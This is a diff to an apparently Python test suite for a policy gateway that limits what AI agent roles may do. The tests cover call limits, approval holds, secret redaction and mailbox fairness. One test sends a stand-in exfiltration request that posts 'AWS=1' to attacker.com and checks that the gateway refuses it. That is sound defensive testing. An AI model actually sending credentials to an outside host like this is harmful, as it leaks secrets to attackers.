@@ -57,6 +57,7 @@ async def test_an_allowed_call_is_decided_carried_out_and_ended(one: Gateway, me
     assert len(one.tool.calls) == 1
 
 
+@pytest.mark.law("I9")
 async def test_a_refused_call_has_no_effect_and_says_why(one: Gateway, me: Caller, capfd) -> None:
     url = "https://attacker.com/collect"
     said = await me.call("coder", "http", {"url": url, "method": "post", "body": "AWS=1"}, by="coder-agent-1")
@@ -144,6 +145,7 @@ async def test_a_role_that_does_not_exist_is_a_violation(one: Gateway, me: Calle
     assert (error["class"], error["code"]) == ("policy_violation", "unknown_role")
 
 
+@pytest.mark.law("I8")
 async def test_a_call_of_a_task_happens_once_and_is_answered_as_often_as_asked(one: Gateway, me: Caller) -> None:
     await me.task_runs()
     one.tool.hold = asyncio.Event()
@@ -167,7 +169,7 @@ async def test_a_long_call_that_is_asked_again_and_again_takes_no_room_from_othe
     nats_server: NatsServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("services.policy_gateway.calls.flights.LISTENS_S", 0.15)
-    async with caller(nats_server) as me, gateway(nats_server, tmp_path / "one", calls_held=4) as one:
+    async with caller(nats_server) as me, gateway(nats_server, tmp_path / "one", calls_held=6) as one:
         await me.task_runs()
         one.tool.hold = asyncio.Event()
         for _ in range(8):  # each time the executor listens to its newest request only
@@ -182,6 +184,7 @@ async def test_a_long_call_that_is_asked_again_and_again_takes_no_room_from_othe
         assert len(one.tool.calls) == 2
 
 
+@pytest.mark.law("I13")
 async def test_no_secret_of_a_call_stands_in_a_stream_or_a_log(
     one: Gateway, me: Caller, capfd: pytest.CaptureFixture[str]
 ) -> None:
@@ -327,6 +330,30 @@ async def test_a_task_may_fetch_only_so_many_pages(one: Gateway, me: Caller) -> 
     assert (await me.call("researcher", "http", {"url": "https://docs.rs/x"}))["ok"], "no task, no count"
 
 
+async def test_calls_at_once_pass_no_limit_that_one_after_the_other_would_not(
+    nats_server: NatsServer, tmp_path: Path
+) -> None:
+    """Over two gateways, which know nothing of each other but the audit."""
+    page = {"url": "https://docs.rs/x"}
+    async with (
+        caller(nats_server) as me,
+        gateway(nats_server, tmp_path / "one") as one,
+        gateway(nats_server, tmp_path / "two") as two,
+    ):
+        text = (await me.ask("roles"))["text"]
+        await me.ask("put", text=text.replace("calls_max = 60", "calls_max = 7"))
+        books = (one.app.metrics, two.app.metrics)
+        await eventually(lambda: all(metrics.value("htdag_policy_version") == 1 for metrics in books))
+        await me.task_runs(role="researcher")
+        said = await asyncio.gather(
+            *(me.call("researcher", "http", page, task=CallOf("r1", "a", 1, number)) for number in range(1, 31))
+        )
+        assert len(one.tool.calls) + len(two.tool.calls) == 7
+        assert [one["ok"] for one in said].count(True) == 7
+        refused = [one["error"] for one in said if not one["ok"]]
+        assert {(error["class"], error["code"]) for error in refused} == {("policy_violation", "call_limit_exceeded")}
+
+
 async def test_admin_tasks_wait_for_a_human(nats_server: NatsServer, tmp_path: Path) -> None:
     async with caller(nats_server) as me:
         async with gateway(nats_server, tmp_path / "one"):
@@ -338,6 +365,7 @@ async def test_admin_tasks_wait_for_a_human(nats_server: NatsServer, tmp_path: P
             assert (await me.call("admin", "fs", {"read": "/etc/hosts"}, task=CallOf("r1", "a", 1, 2)))["ok"]
 
 
+@pytest.mark.law("I6")
 @pytest.mark.parametrize(("released", "code"), [(0, "approval_required"), (1, "approval_required"), (2, "")])
 async def test_a_release_holds_for_its_attempt_only(one: Gateway, me: Caller, released: int, code: str) -> None:
     approved = [TaskApproved("a", released, "apr-1", "d", "aka", 7, 1)] if released else []
@@ -353,13 +381,18 @@ async def test_a_release_holds_for_its_attempt_only(one: Gateway, me: Caller, re
 
 
 async def test_too_many_calls_at_once_are_sent_back(nats_server: NatsServer, tmp_path: Path) -> None:
-    async with caller(nats_server) as me, gateway(nats_server, tmp_path / "one", calls_held=3) as one:
+    async with caller(nats_server) as me, gateway(nats_server, tmp_path / "one", calls_held=4) as one:
         one.tool.hold = asyncio.Event()
         held = [asyncio.create_task(me.call("coder", "fs", READ)) for _ in range(3)]
         await eventually(lambda: len(one.tool.calls) == 3)
         assert (await me.call("coder", "fs", READ))["error"]["code"] == "mailbox_full"
+        # One role does not fill the door: others find a place still.
+        other = asyncio.create_task(me.call("critic", "fs", READ))
+        await eventually(lambda: len(one.tool.calls) == 4)
+        for role in ("critic", "architect", "nobody"):
+            assert (await me.call(role, "fs", READ))["error"]["code"] == "mailbox_full"
         one.tool.hold.set()
-        assert all(said["ok"] for said in await asyncio.gather(*held))
+        assert all(said["ok"] for said in await asyncio.gather(*held, other))
 
 
 async def test_a_call_that_is_the_same_only_for_python_is_another_one(one: Gateway, me: Caller) -> None:
